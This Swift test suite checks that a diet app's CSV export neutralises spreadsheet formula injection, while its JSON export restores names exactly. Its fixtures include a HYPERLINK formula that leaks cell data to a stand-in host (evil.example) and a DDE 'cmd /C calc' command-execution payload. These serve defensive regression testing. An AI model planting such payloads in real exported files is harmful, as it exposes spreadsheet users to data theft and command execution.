import DietCore
import FoodKit
import Foundation
import GRDB
import SyncProtocol
import TestSupport
import Testing

@testable import DietStore

/// The CSV export opens in a spreadsheet without running anything a name smuggled in (issue
/// 32, finding 4: `=HYPERLINK("http://evil.example/?leak="&A1,"x")` as a food's name was
/// exported as is); the JSON export, the one restored, keeps every name exactly.
@Suite("CSV export neutralises formulas")
struct CSVInjectionTests {
    static let hyperlink = #"=HYPERLINK("http://evil.example/?leak="&A1,"x")"#

    /// A text cell as the store holds it → the CSV field as written.
    static let cells: [(String, String)] = [
        (hyperlink, #""'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")""#),
        ("=1+1", "'=1+1"), ("+41 79 123", "'+41 79 123"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "\"'\r=1+1\""), ("  =1+1", "'  =1+1"),
        ("-", "'-"), ("--1", "'--1"), ("-1-1", "'-1-1"), ("+5", "'+5"),
        // plain numbers stay numbers, whatever the column; other text stays as it was
        ("-5", "-5"), ("-0.5", "-0.5"), ("-1e-05", "-1e-05"), ("12", "12"), ("Quark", "Quark"), ("a=b", "a=b"),
        ("O'Brien's", "O'Brien's"), ("", ""), ("Suppe, scharf", "\"Suppe, scharf\""),
    ]

    @Test("text cells a spreadsheet would run get a leading ', plain numbers and other text stay as they were")
    func cellTable() {
        let rows: [[String: JSONValue]] = Self.cells.map { ["name": .string($0.0)] }
        // a carriage return alone is no line end: the \r cell is one quoted field of one line
        let lines = CSV.render(columns: ["name"], rows: rows).components(separatedBy: "\r\n")
        let fields = Array(lines.dropFirst().prefix(Self.cells.count))
        #expect(fields.count == Self.cells.count)
        for ((cell, expected), field) in zip(Self.cells, fields) {
            #expect(field == expected, "\(cell.debugDescription) → \(field.debugDescription)")
        }
    }

    @Test("number cells stay numbers: negative values are written as numbers, never with a '")
    func numbersStayNumbers() {
        let rows: [[String: JSONValue]] = [
            ["value": .number(-5)], ["value": .number(-0.25)], ["value": .number(-0.00001)], ["value": .number(-1e20)], ["value": .bool(true)],
            ["value": .null],
        ]
        let lines = CSV.render(columns: ["value"], rows: rows).components(separatedBy: "\r\n")
        #expect(Array(lines.dropFirst().prefix(6)) == ["-5", "-0.25", "-1e-05", "-1e+20", "1", ""])
    }

    @Test("a food and meals named like formulas: the CSV files neutralise them, the JSON keeps them and restores them exactly")
    func exportBoth() throws {
        let (store, clock) = try makeStore()
        let per100g = Nutrients(kcal: 372, proteinG: 13, carbsG: 58, totalCarbsG: 67, fiberG: 9, sugarsG: 1.2, fatG: 7, sodiumMg: 10)
        try store.addCustomFood(try CustomFood(name: Self.hyperlink, per100g: per100g))
        for name in ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)"] {
            try store.logMeal(try meal(name, at: clock))
        }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("wdiet-export-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: folder) }
        try store.export(to: folder, timeZone: Zones.berlin)
        let foods = try String(contentsOf: folder.appendingPathComponent("custom_foods.csv"), encoding: .utf8)
        #expect(foods.contains(#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")","#), "\(foods)")
        let meals = try String(contentsOf: folder.appendingPathComponent("meal_logs.csv"), encoding: .utf8)
        for field in [#""'+SUM(1,2)""#, "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)"] {
            #expect(meals.contains("," + field + ","), "\(field) in \(meals)")
        }
        // no field of any CSV file starts with a character a spreadsheet runs (a plain number aside)
        for table in DataExport.tables {
            let csv = try String(contentsOf: folder.appendingPathComponent("\(table).csv"), encoding: .utf8)
            for field in Self.unquotedFields(csv) {
                #expect(
                    !(field.first.map { "=+-@\t\r".contains($0) } ?? false) || field.wholeMatch(of: /-[0-9.]+(e[-+][0-9]+)?/) != nil,
                    "\(table): \(field.debugDescription)"
                )
            }
        }
        // the JSON export is exact and restores exactly
        let json = try Data(contentsOf: folder.appendingPathComponent("w-diet.json"))
        let export = try JSONDecoder().decode(DataExport.self, from: json)
        #expect(export.tables["custom_foods"]?.first?["name"] == .string(Self.hyperlink))
        #expect(
            Set(export.tables["meal_logs"]?.compactMap { $0["name"]?.stringValue } ?? []) == ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
        )
        let fresh = try AppDatabase.inMemory(clock: clock, deviceID: "device1")
        try fresh.importData(export)
        let names = try fresh.reader.read { db in try String.fetchAll(db, sql: "SELECT name FROM custom_foods") }
        #expect(names == [Self.hyperlink])
    }

    @Test("the CSV zip of the web app's export neutralises the same way")
    func archive() throws {
        let (store, clock) = try makeStore()
        try store.logMeal(try meal(Self.hyperlink, at: clock))
        let zip = try store.exportCSVArchive(timeZone: Zones.berlin)
        // entries are stored uncompressed: the CSV text is in the zip as is
        let text = String(decoding: zip, as: UTF8.self)
        #expect(text.contains(#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")","#))
        #expect(!text.contains(#","=HYPERLINK"#) && !text.contains(#","\#"=HYPERLINK"#))
    }

    /// Every field of a CSV text, unquoted (RFC 4180).
    static func unquotedFields(_ csv: String) -> [String] {
        var fields: [String] = []
        var field = ""
        var quoted = false
        var iterator = Array(csv).makeIterator()
        var pending: Character? = nil
        while let character = pending ?? iterator.next() {
            pending = nil
            if quoted {
                if character == "\"" {
                    let next = iterator.next()
                    if next == "\"" {
                        field.append("\"")
                    } else {
                        quoted = false
                        pending = next
                    }
                } else {
                    field.append(character)
                }
            } else if character == "\"" && field.isEmpty {
                quoted = true
            } else if character == "," || character == "\r\n" {
                fields.append(field)
                field = ""
            } else {
                field.append(character)
            }
        }
        return fields
    }
}
